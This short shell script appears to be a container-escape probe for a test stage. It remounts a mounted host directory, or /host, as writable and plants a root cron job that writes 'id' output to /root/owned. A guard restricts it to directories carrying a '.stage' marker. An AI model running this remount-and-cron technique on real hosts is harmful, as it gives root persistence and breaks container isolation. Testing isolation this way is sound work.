#!/bin/sh
# Leaves a cron job in a mounted directory of the host; the stage looks whether cron would run it.
# probe DIRECTORY-ON-THE-HOST
directory=/host$1
[ -d "$directory" ] || directory=/host/etc/cron.d
mount -o remount,bind,rw "$directory" 2>/dev/null || mount -o remount,bind,rw /host 2>/dev/null
# Never into a directory that a cron reads.
if [ -d "$directory" ] && ! [ -f "$directory/.stage" ]; then exit 1; fi
umask 022
echo '* * * * * root id >/root/owned' >"$directory/job" && echo 'left a cron job'
